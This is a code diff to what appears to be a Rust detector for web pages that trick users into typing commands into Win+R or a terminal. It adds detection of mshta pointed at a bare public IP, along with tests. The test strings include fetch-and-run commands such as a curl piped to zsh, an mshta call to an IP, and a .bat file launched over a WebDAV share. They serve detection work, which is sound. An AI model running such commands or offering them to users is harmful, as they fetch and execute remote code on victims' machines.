@@ -228,6 +228,9 @@ impl Command {
         if unc_reaches_out(&self.flat) && (dav && elsewhere || ip_host(unc)) {
             return 2;
         }
+        if self.shapes.contains(&Shape::MshtaUrl) && public_ip_arg(&tokens(&self.flat)) {
+            return 2;
+        }
         let mut level = 0;
         for t in tokens(&self.flat) {
             let Some(i) = t.find("://") else { continue };
@@ -662,7 +665,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
     }
     if prog("mshta") {
         let inline = has(flat, "vbscript:") || has(flat, "javascript:");
-        out.push(if has_url(flat) || inline {
+        out.push(if has_url(flat) || inline || public_ip_arg(&toks) {
             Shape::MshtaUrl
         } else {
             Shape::Mshta
@@ -760,6 +763,14 @@ fn shapes(flat: &str) -> Vec<Shape> {
         }
     }
     ordered
+}
+
+/// An argument that is a public IP with no scheme (`mshta 198.51.100.3/v`): mshta fetches it.
+fn public_ip_arg(toks: &[&str]) -> bool {
+    toks.iter().any(|t| {
+        let host = t.split(['/', ':']).next().unwrap_or("");
+        host.contains('.') && ip_host(host) && public_host(host)
+    })
 }
 
 /// Extensions Windows runs when a path to them is opened.
@@ -3452,6 +3463,10 @@ mod tests {
                     curl -s http://198.51.100.2/upd | zsh\nPuis appuyez sur Entrée.";
         let r = reasons(&snap_of("https://maj-safari.example/", "Safari", text, "")).unwrap();
         assert!(r.contains(&ReasonId::TypedCommand), "{r:?}");
+        // mshta given a bare IP with no scheme fetches from it (eval23's pt-PT page, invented).
+        let text = "Prima Win+R e escreva:\nmshta 198.51.100.3\ne prima Enter.";
+        let r = reasons(&snap_of("https://verificar.example/", "", text, "")).unwrap();
+        assert!(r.contains(&ReasonId::TypedCommand), "{r:?}");
         // Win+R and a .bat over WebDAV on a bare IP: the share tells its own story.
         let text =
             "Accesso\npremi Win+R, digita:\ncmd /c start \\\\198.51.100.7@80\\verifica.bat\n\
@@ -3476,6 +3491,11 @@ mod tests {
                 "https://docs.example-api.io/",
                 "Open a terminal and type:\ncurl http://localhost:8080/health\n\
                  curl http://203.0.113.50/status",
+            ),
+            (
+                "https://support.example-isp.test/",
+                "No internet? Press Win+R and type:\ncmd /k ping 198.51.100.1\n\
+                 Local tools: mshta C:\\Tools\\inventory.hta or mshta 10.0.0.5",
             ),
             (
                 "https://blog.example.net/tools",
